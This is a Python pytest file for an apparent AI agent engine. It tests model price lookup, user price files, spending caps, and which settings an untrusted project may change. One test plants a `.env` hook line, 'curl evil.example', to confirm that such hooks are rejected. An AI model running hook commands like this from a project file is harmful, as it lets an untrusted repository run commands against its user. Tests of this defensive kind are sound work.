"""Prices: the table, the person's own, and what nobody knows; the caps as settings."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from aura_engine.config.load import load_settings
from aura_engine.config.price_table import DEAREST, PRICES, Price
from aura_engine.config.prices import Prices, prices_of
from aura_engine.core.model import Usage
from aura_engine.errors import ConfigError

MILLION = Usage(input=1_000_000, output=1_000_000, cache_read=1_000_000, cache_write=1_000_000)


def load(tmp_path: Path, toml: str = "", **flags: str) -> Any:
    file = tmp_path / "config.toml"
    file.write_text(toml)
    return load_settings(flags=flags, environ={}, project=tmp_path, config_file=file)


@pytest.mark.parametrize(
    ("model", "price"),
    [
        ("claude-sonnet-4-5-20250929", PRICES["claude-sonnet-4"]),
        ("anthropic/claude-opus-4-8", PRICES["claude-opus-4-8"]),
        ("us.anthropic.claude-haiku-4-5-v1:0", PRICES["claude-haiku-4-5"]),
        ("GPT-5-mini", PRICES["gpt-5-mini"]),
        ("gpt-5-codex", PRICES["gpt-5"]),
        ("deepseek-v4-pro", PRICES["deepseek-v4-pro"]),
    ],
)
def test_the_longest_name_that_a_model_begins_with_decides(model: str, price: Price) -> None:
    assert Prices().of(model) == price
    assert Prices().doubt(model) == ""


@pytest.mark.parametrize("model", ["", "qwen-of-my-own", "renamed-gpt-5"])
def test_an_unknown_model_is_counted_at_the_dearest_and_said_to_be(model: str) -> None:
    prices = Prices()
    assert prices.of(model) is None
    assert prices.charged(MILLION, model).cost == pytest.approx(sum(DEAREST))
    assert "dearest known price" in prices.doubt(model)
    assert max(price.output for price in PRICES.values()) == DEAREST.output


def test_what_a_program_says_that_it_cost_stands_unless_the_person_has_a_price() -> None:
    told = Usage(input=1_000_000, cost=0.5)
    assert Prices().charged(told, "gpt-5").cost == 0.5
    assert Prices({"gpt-5": Price(7, 0, 0, 0)}).charged(told, "gpt-5").cost == 7.0


def test_a_running_worker_s_cost_follows_its_tokens_until_it_is_told() -> None:
    """A program tells its cost late; the cap must not wait for that."""
    prices = Prices()
    assert prices.running(Usage(input=1_000_000), "gpt-5").cost == 1.25
    assert prices.running(Usage(input=1_000_000, cost=0.1), "gpt-5").cost == 1.25
    assert prices.running(Usage(input=1_000_000, cost=9.0), "gpt-5").cost == 9.0
    assert prices.running(Usage(input=1_000_000, cost=0.1), "nobody-knows").cost == 0.1


def test_a_person_s_own_prices_come_from_their_file_and_from_one_beside_it(tmp_path: Path) -> None:
    beside = tmp_path / "prices.toml"
    beside.write_text('"house-model" = { input = 3, output = 4, cache_read = 0.3 }\n')
    toml = '[prices]\n"house-model" = { input = 1, output = 2 }\n"gpt-5" = { input = 0, output = 0 }\n'
    loaded = load(tmp_path, toml)
    own = prices_of(loaded.settings, loaded.prices)
    assert own.of("house-model-7b") == Price(1, 2, 1, 1)
    assert own.charged(MILLION, "gpt-5-mini").cost == 0  # it begins with the name, and theirs goes before the table
    assert own.charged(MILLION, "gpt-4.1").cost > 0
    loaded = load(tmp_path, toml, PRICES=str(beside))
    assert prices_of(loaded.settings, loaded.prices).of("house-model") == Price(3, 4, 0.3, 3)


def test_the_original_s_price_settings_are_the_planner_s_model_s_own(tmp_path: Path) -> None:
    loaded = load(tmp_path, API_MODEL="deepseek-v4-pro", TOKEN_PRICE_CACHE_MISS="2", TOKEN_PRICE_OUTPUT="8")
    own = prices_of(loaded.settings, loaded.prices)
    assert own.of("deepseek-v4-pro") == PRICES["deepseek-v4-pro"]._replace(input=2, cache_write=2, output=8)
    unset = load(tmp_path, API_MODEL="deepseek-v4-pro")
    assert prices_of(unset.settings).of("deepseek-v4-pro") == PRICES["deepseek-v4-pro"]


@pytest.mark.parametrize(
    ("toml", "says"),
    [
        ('[prices]\n"m" = 3\n', "m"),
        ('[prices]\n"m" = { input = -1, output = 1 }\n', "m input"),
        ('[prices]\n"m" = { output = 1 }\n', "m input"),
        ('[prices]\n"m" = { input = 1, output = 1, tip = 2 }\n', "m tip"),
        ('[prices]\n"m" = { input = nan, output = 1 }\n', "m input"),
    ],
)
def test_a_wrong_price_is_told_with_its_place(tmp_path: Path, toml: str, says: str) -> None:
    loaded = load(tmp_path, toml)
    with pytest.raises(ConfigError, match=says) as error:
        prices_of(loaded.settings, loaded.prices)
    assert "USD per million tokens" in error.value.cure


def test_a_price_file_that_is_not_there_is_told(tmp_path: Path) -> None:
    loaded = load(tmp_path, PRICES=str(tmp_path / "none.toml"))
    with pytest.raises(ConfigError, match="AURA_PRICES"):
        prices_of(loaded.settings)


def test_caps_are_read_and_zero_is_none(tmp_path: Path) -> None:
    toml = 'max_cost_usd = 5.5\nmax_work_time = "8h"\n[task]\nmax_tokens = 1000\nmax_work_time = 90\n'
    caps = load(tmp_path, toml, ATTEMPT_MAX_COST_USD="1", MAX_TOKENS="0").settings.caps()
    assert (caps.run.cost, caps.run.tokens, caps.run.work) == (5.5, 0, 8 * 3600)
    assert (caps.task.tokens, caps.task.work, caps.attempt.cost) == (1000, 90 * 60, 1.0)
    assert not load(tmp_path).settings.caps().run.any
    with pytest.raises(ConfigError, match="AURA_MAX_COST_USD"):
        load(tmp_path, MAX_COST_USD="-1")


def test_hooks_come_from_the_person_s_own_configuration_only(tmp_path: Path) -> None:
    (tmp_path / ".env").write_text("AURA_HOOK_TASK_LANDED=curl evil.example\nAURA_MAX_TURNS=7\n")
    loaded = load(tmp_path, '[hooks]\ngoal_reached = "notify-send done"\n', HOOK_TASK_FAILED="https://e.org/x")
    assert loaded.settings.hooks() == {"goal_reached": "notify-send done", "task_failed": "https://e.org/x"}
    assert loaded.settings.max_turns == 7
    assert any("AURA_HOOK_TASK_LANDED" in note and "not taken" in note for note in loaded.notes)


def test_a_stranger_s_project_cannot_change_what_may_be_spent_unsaid(tmp_path: Path) -> None:
    (tmp_path / ".env").write_text("AURA_MAX_COST_USD=1000\nAURA_PRICES=free.toml\n")
    notes = load(tmp_path, "max_cost_usd = 5\n").notes
    assert any(note.startswith("AURA_MAX_COST_USD is set by") and "1000" in note for note in notes)
    assert any(note.startswith("AURA_PRICES is set by") for note in notes)
